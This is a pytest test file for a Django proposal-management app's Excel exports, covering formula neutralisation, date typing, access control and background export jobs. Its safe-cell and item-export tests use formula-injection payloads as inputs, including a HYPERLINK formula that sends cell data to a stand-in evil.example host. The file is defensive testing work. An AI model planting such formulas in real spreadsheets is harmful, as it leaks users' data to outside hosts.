"""Excel export of the filtered lists: the same rows as the page, formula text neutralised,
typed dates, and large exports as an owner-only background job with a progress page."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta
from unittest import mock
from urllib.parse import quote

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from proposals import export_items, exports, services, workbook
from proposals.models import ExportJob, ExportStatus
from replies import services as reply_services
from replies.models import FollowUp

from .factories import UnitFactory, UserFactory

ITEM_HEADERS = [
    "编号",
    "标题",
    "类型",
    "届次",
    "领衔人",
    "联名人",
    "类别",
    "状态",
    "重点",
    "主办单位",
    "会办单位",
    "分办单位",
    "交办日",
    "期限",
    "答复日",
    "文号",
    "答复类别",
    "公开属性",
    "办理工作测评",
    "办理结果测评",
    "重新办理",
    "办结日",
]
WORK_HEADERS = [
    "编号",
    "标题",
    "领衔人",
    "承办方式",
    "重新办理",
    "交办时间",
    "办理期限",
    "剩余天数",
    "状态",
]


def submitted(author, meeting, category, title):
    item = services.proposal_create(
        author=author, meeting=meeting, title=title, body="建议正文。", category=category
    )
    return services.proposal_submit(proposal=item, actor=author)


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def rows_of(content: bytes) -> list[tuple]:
    return list(sheet_of(content).iter_rows(values_only=True))


def body_of(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def items(member, other_member, npc_meeting, npc_category):
    """Two items of 何红 (one of them registered) and one of 王建国."""
    mine = submitted(member, npc_meeting, npc_category, "关于加快老旧小区加装电梯的建议")
    registered = submitted(member, npc_meeting, npc_category, "关于完善社区养老服务的建议")
    theirs = submitted(other_member, npc_meeting, npc_category, "关于优化公交线路的建议")
    return mine, registered, theirs


@pytest.mark.django_db
class TestSafeCell:
    @pytest.mark.parametrize(
        "text",
        ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A9)", "\t=1"],
    )
    def test_formula_text_gets_a_leading_quote(self, text):
        assert workbook.safe_cell(text) == "'" + text

    def test_plain_text_numbers_and_dates_stay_as_they_are(self):
        assert workbook.safe_cell("关于=的建议") == "关于=的建议"
        assert workbook.safe_cell(-3) == -3
        assert workbook.safe_cell(2.5) == 2.5
        assert workbook.safe_cell(None) is None
        assert workbook.safe_cell(date(2026, 3, 1)) == date(2026, 3, 1)

    def test_aware_datetimes_are_local_and_naive(self):
        moment = timezone.make_aware(datetime(2026, 3, 1, 2, 30), timezone.get_fixed_timezone(0))
        assert workbook.safe_cell(moment) == datetime(2026, 3, 1, 10, 30)  # Asia/Shanghai

    def test_control_characters_cannot_hide_a_formula(self):
        assert workbook.safe_cell("\x01=1+1") == "'=1+1"

    def test_write_rows_header_is_bold_and_frozen_and_text_is_text(self):
        content = workbook.write_rows(
            [["=1+1", date(2026, 1, 2), 7], ["@x", None, -1]], ["标题", "日期", "天数"]
        )
        sheet = sheet_of(content)
        assert [c.value for c in sheet[1]] == ["标题", "日期", "天数"]
        assert all(c.font.b for c in sheet[1])
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["A"].width >= 10
        formula, day, number = sheet[2]
        assert (formula.value, formula.data_type) == ("'=1+1", "s")
        assert day.is_date and day.value == datetime(2026, 1, 2)
        assert (number.value, number.data_type) == (7, "n")
        assert sheet["A3"].value == "'@x"
        assert sheet["C3"].value == -1


@pytest.mark.django_db
class TestItemExport:
    url = "/items/export.xlsx"

    def test_url_name(self):
        assert reverse("proposals:export_items") == self.url

    def test_anonymous_goes_to_login(self, client):
        response = client.get(self.url)
        assert response.status_code == 302
        assert "/login/" in response["Location"]

    def test_a_member_exports_only_their_items(self, login, member, items):
        mine, registered, _ = items
        response = login(member).get(self.url)
        assert response.status_code == 200
        assert response["Content-Type"] == workbook.XLSX_CONTENT_TYPE
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment; filename*=utf-8''")
        assert quote("建议提案") in disposition and disposition.endswith(".xlsx")
        assert "no-store" in response["Cache-Control"]
        rows = rows_of(body_of(response))
        assert list(rows[0]) == ITEM_HEADERS
        assert sorted(row[1] for row in rows[1:]) == sorted([mine.title, registered.title])

    def test_a_supervisor_filtered_by_status(
        self, login, npc_supervisor, items, member, other_member
    ):
        _, registered, _ = items
        services.proposal_register(proposal=registered, actor=npc_supervisor)
        registered.refresh_from_db()
        client = login(npc_supervisor)
        everything = rows_of(body_of(client.get(self.url)))
        assert len(everything) == 4  # header and the three submitted items
        rows = rows_of(body_of(client.get(self.url, {"status": "registered", "page": "2"})))
        assert len(rows) == 2
        row = dict(zip(ITEM_HEADERS, rows[1], strict=True))
        assert (row["编号"], row["标题"], row["领衔人"]) == (
            registered.number_label,
            registered.title,
            "何红",
        )
        assert (row["届次"], row["类别"], row["状态"]) == (
            registered.meeting.short_name,
            "民政",
            "已立案",
        )
        assert row["类型"] == "建议"
        # not assigned yet: no units, dates or reply
        assert {header: value for header, value in row.items() if value is not None} == {
            "编号": registered.number_label,
            "标题": registered.title,
            "类型": "建议",
            "届次": registered.meeting.short_name,
            "领衔人": "何红",
            "类别": "民政",
            "状态": "已立案",
        }

        # the submission time is a column to choose; typed, in local time
        exports.export_columns_remember(
            user=npc_supervisor, kind="items", columns=["number", "submitted_at"]
        )
        rows = rows_of(body_of(client.get(self.url, {"status": "registered"})))
        assert list(rows[0]) == ["编号", "提交时间"]
        number, submitted_at = rows[1]
        assert number == registered.number_label
        assert isinstance(submitted_at, datetime)  # a real date, in local time
        local = timezone.localtime(registered.submitted_at).replace(tzinfo=None)
        assert abs(submitted_at - local) < timedelta(seconds=1)

    def test_text_that_looks_like_a_formula_is_neutralised(
        self, login, member, npc_meeting, npc_category
    ):
        titles = ['=HYPERLINK("http://evil.example","点我")', "+1", "-1", "@SUM(A1:A2)"]
        for title in titles:
            submitted(member, npc_meeting, npc_category, title)
        sheet = sheet_of(body_of(login(member).get(self.url)))
        cells = {cell.value: cell for cell in sheet["B"][1:]}
        assert set(cells) == {"'" + title for title in titles}
        for cell in cells.values():
            assert cell.value.startswith("'")
            assert cell.data_type == "s"


@pytest.fixture
def assigned(items, npc_supervisor, unit):
    mine, registered, _theirs = items
    for item in (mine, registered):
        services.proposal_register(proposal=item, actor=npc_supervisor)
        services.proposal_assign(proposal=item, actor=npc_supervisor, lead_unit=unit)
    return mine, registered


@pytest.mark.django_db
class TestWorkspaceExport:
    url = "/items/work/export.xlsx"

    def test_the_units_assignments_with_dates_and_days_left(self, login, unit_staff, assigned):
        rows = rows_of(body_of(login(unit_staff).get(self.url)))
        assert list(rows[0]) == WORK_HEADERS
        assert sorted(row[1] for row in rows[1:]) == sorted(item.title for item in assigned)
        for row in rows[1:]:
            _, _, lead, role, round_, assigned_at, due_on, left, status = row
            assert (lead, role, round_, status) == ("何红", "主办", None, "待签收")
            assert isinstance(assigned_at, datetime) and isinstance(due_on, datetime)
            assert assigned_at.date() == timezone.localdate()
            assert left == (due_on.date() - timezone.localdate()).days > 0

    def test_the_filter_applies(self, login, unit_staff, assigned):
        first = assigned[0].assignments.get()
        services.assignment_accept(assignment=first, actor=unit_staff)
        rows = rows_of(body_of(login(unit_staff).get(self.url, {"status": "accepted"})))
        assert [row[1] for row in rows[1:]] == [assigned[0].title]

    def test_other_units_see_nothing_and_members_may_not(self, login, assigned, member):
        other_unit = UnitFactory(name="杭州市财政局", short_name="市财政局")
        stranger = UserFactory(username="czj_staff", role="unit_staff", unit=other_unit)
        assert len(rows_of(body_of(login(stranger).get(self.url)))) == 1
        assert login(member).get(self.url).status_code == 403


@pytest.mark.django_db
class TestFollowUpExport:
    url = "/items/follow-ups/export.xlsx"

    def test_follow_ups_of_the_unit(
        self, login, assigned, unit, unit_staff, unit_leader, npc_supervisor, member
    ):
        item = assigned[0]
        item.refresh_from_db()
        item.meeting.supervisor_review_required = False
        item.meeting.save()
        assignment = item.assignments.get()
        services.assignment_accept(assignment=assignment, actor=unit_staff)
        reply = reply_services.reply_start(assignment=assignment, actor=unit_staff)
        reply = reply_services.reply_save(
            reply=reply, actor=unit_staff, version=reply.version, body_html="答复", result_class="B"
        )
        reply_services.reply_submit(reply=reply, actor=unit_staff)
        reply = reply_services.reply_sign(reply=reply, actor=unit_leader)
        due = timezone.localdate() + timedelta(days=30)
        reply_services.follow_up_record(
            reply=reply, actor=unit_staff, promise="-2 年内建成", due_on=due
        )
        assert FollowUp.objects.count() == 1
        for user in (unit_staff, npc_supervisor):
            rows = rows_of(body_of(login(user).get(self.url)))
            assert len(rows) == 2
            number, title, unit_name, promise, due_on, left, status = rows[1]
            assert (number, title, unit_name) == (item.number_label, item.title, unit.short_name)
            assert promise == "'-2 年内建成"
            assert due_on == datetime(due.year, due.month, due.day) and left == 30
            assert status == "落实中"
        assert len(rows_of(body_of(login(npc_supervisor).get(self.url, {"overdue": "true"})))) == 1
        assert login(member).get(self.url).status_code == 403


@pytest.fixture
def five_items(settings, member, npc_meeting, npc_category):
    settings.EXPORT_SYNC_MAX_ROWS = 3
    return [submitted(member, npc_meeting, npc_category, f"关于第{n}件事的建议") for n in range(5)]


@pytest.mark.django_db
class TestBackgroundExport:
    url = "/items/export.xlsx"

    def test_a_large_export_runs_as_a_job_with_a_progress_page(
        self, login, member, other_member, five_items, django_capture_on_commit_callbacks
    ):
        client = login(member)
        with django_capture_on_commit_callbacks(execute=False) as callbacks:
            response = client.get(self.url, {"kind": "suggestion", "page": "3"})
        job = ExportJob.objects.get()
        assert response.status_code == 302
        assert response["Location"] == f"/items/exports/{job.pk}/"
        columns = ",".join(export_items.DEFAULT_ITEM_COLUMNS)
        assert (job.owner, job.kind) == (member, "items")
        assert job.query == "kind=suggestion&export_columns=" + columns.replace(",", "%2C")
        assert exports.split_job_query("items", job.query) == (
            "kind=suggestion",
            export_items.DEFAULT_ITEM_COLUMNS,
        )
        assert (job.status, job.total, job.done) == (ExportStatus.PENDING, 5, 0)
        assert len(callbacks) == 1

        page = client.get(response["Location"])
        html = page.content.decode()
        assert "<progress" in html and 'max="5"' in html and 'value="0"' in html
        assert '<meta http-equiv="refresh" content="2">' in html
        assert "<script" not in html
        assert page["Refresh"] == "2"
        assert client.get(f"/items/exports/{job.pk}/download/").status_code == 404  # not yet

        callbacks[0]()  # the queued task runs (eagerly)
        job.refresh_from_db()
        assert (job.status, job.total, job.done, job.attempts) == (ExportStatus.READY, 5, 5, 1)
        assert job.file.name.startswith("exports/") and "建议" not in job.file.name

        html = client.get(response["Location"]).content.decode()
        assert "http-equiv" not in html
        download_url = f"/items/exports/{job.pk}/download/"
        assert download_url in html
        download = client.get(download_url)
        assert download.status_code == 200
        assert "attachment; filename*=utf-8''" in download["Content-Disposition"]
        rows = rows_of(body_of(download))
        assert len(rows) == 6
        assert sorted(row[1] for row in rows[1:]) == sorted(i.title for i in five_items)

        intruder = login(other_member)
        assert intruder.get(f"/items/exports/{job.pk}/").status_code == 404
        assert intruder.get(download_url).status_code == 404

    def test_up_to_the_limit_the_file_comes_at_once(self, settings, login, member, five_items):
        settings.EXPORT_SYNC_MAX_ROWS = 5
        response = login(member).get(self.url)
        assert response.status_code == 200
        assert len(rows_of(body_of(response))) == 6
        assert not ExportJob.objects.exists()

    def test_the_task_runs_after_commit(
        self, login, member, five_items, django_capture_on_commit_callbacks
    ):
        with django_capture_on_commit_callbacks(execute=True):
            response = login(member).get(self.url)
        job = ExportJob.objects.get()
        assert response["Location"] == reverse("proposals:export_status", args=[job.pk])
        assert job.status == ExportStatus.READY
        assert len(rows_of(job.file.read())) == 6

    def test_clicking_twice_reuses_the_unfinished_job(
        self, login, member, five_items, django_capture_on_commit_callbacks
    ):
        client = login(member)
        with django_capture_on_commit_callbacks(execute=False):
            first = client.get(self.url)
            second = client.get(self.url)
        assert first["Location"] == second["Location"]
        assert ExportJob.objects.count() == 1

    def test_the_job_rechecks_the_owners_permissions(
        self, login, member, five_items, django_capture_on_commit_callbacks
    ):
        with django_capture_on_commit_callbacks(execute=False) as callbacks:
            login(member).get(self.url)
        member.is_active = False  # the owner lost access before the worker started
        member.save()
        callbacks[0]()
        job = ExportJob.objects.get()
        assert job.status == ExportStatus.FAILED and not job.file
        assert "PermissionDenied" in job.error

    def test_progress_is_saved_every_thousand_rows(self, member, five_items):
        job = ExportJob.objects.create(owner=member, kind="items", query="", total=5)
        seen: list[int] = []
        original = exports.write_workbook

        def every_two(*args, **kwargs):
            kwargs["progress_every"] = 2
            on_progress = kwargs["on_progress"]

            def spy(done):
                on_progress(done)
                seen.append(ExportJob.objects.get(pk=job.pk).done)

            kwargs["on_progress"] = spy
            return original(*args, **kwargs)

        from proposals.tasks import export_job_task

        with mock.patch.object(exports, "write_workbook", every_two):
            assert export_job_task.delay(job.pk).get() == "ready"
        assert seen == [2, 4]
        job.refresh_from_db()
        assert (job.status, job.done) == (ExportStatus.READY, 5)

    def test_storage_errors_are_retried(self, member, five_items):
        from django.core.files.storage import FileSystemStorage

        from proposals.tasks import export_job_task

        job = ExportJob.objects.create(owner=member, kind="items", query="", total=5)
        real_save = FileSystemStorage.save
        calls = {"n": 0}

        def flaky(self, *args, **kwargs):
            calls["n"] += 1
            if calls["n"] == 1:
                raise OSError("disk full")
            return real_save(self, *args, **kwargs)

        with mock.patch.object(FileSystemStorage, "save", flaky):
            # throw=False: the eager run then retries in place, as a worker would later
            export_job_task.apply(args=[job.pk], throw=False)
        job.refresh_from_db()
        assert (job.status, job.attempts, job.error) == (ExportStatus.READY, 2, "")

    def test_a_lost_job_is_queued_again_from_its_page(
        self, login, member, five_items, django_capture_on_commit_callbacks
    ):
        job = ExportJob.objects.create(
            owner=member,
            kind="items",
            query="",
            total=5,
            created_at=timezone.now() - timedelta(minutes=10),
        )
        with django_capture_on_commit_callbacks(execute=True):
            login(member).get(f"/items/exports/{job.pk}/")
        job.refresh_from_db()
        assert job.status == ExportStatus.READY


@pytest.mark.django_db
class TestOldExportsArePurged:
    def test_jobs_older_than_the_keep_days_go_with_their_files(
        self, settings, login, member, five_items, django_capture_on_commit_callbacks
    ):
        from proposals.tasks import purge_old_exports

        settings.EXPORT_KEEP_DAYS = 7
        client = login(member)
        with django_capture_on_commit_callbacks(execute=True):
            client.get(TestBackgroundExport.url)
            client.get(TestBackgroundExport.url, {"kind": "suggestion"})
        old, recent = ExportJob.objects.order_by("pk")
        assert old.status == recent.status == ExportStatus.READY
        storage, old_name = old.file.storage, old.file.name
        assert storage.exists(old_name)
        ExportJob.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=8))

        assert purge_old_exports.delay().get() == 1

        assert list(ExportJob.objects.all()) == [recent]
        assert not storage.exists(old_name)
        assert storage.exists(recent.file.name)
        assert client.get(f"/items/exports/{old.pk}/download/").status_code == 404
        assert client.get(f"/items/exports/{recent.pk}/download/").status_code == 200


@pytest.mark.parametrize(("value", "expected"), [("123", "123"), (None, "5000")])
def test_the_sync_limit_is_read_from_the_environment(value, expected):
    """EXPORT_SYNC_MAX_ROWS, documented in the README, is a setting of the deployment."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    env = {key: item for key, item in os.environ.items() if key != "EXPORT_SYNC_MAX_ROWS"}
    if value is not None:
        env["EXPORT_SYNC_MAX_ROWS"] = value
    code = "import config.settings.base as base; print(base.EXPORT_SYNC_MAX_ROWS)"
    result = subprocess.run(
        [sys.executable, "-c", code],
        env=env,
        cwd=Path(__file__).resolve().parent.parent,
        capture_output=True,
        text=True,
        check=True,
    )
    assert result.stdout.strip() == expected


def test_the_limit_comes_from_the_setting(settings):
    settings.EXPORT_SYNC_MAX_ROWS = 7
    assert exports.sync_max_rows() == 7
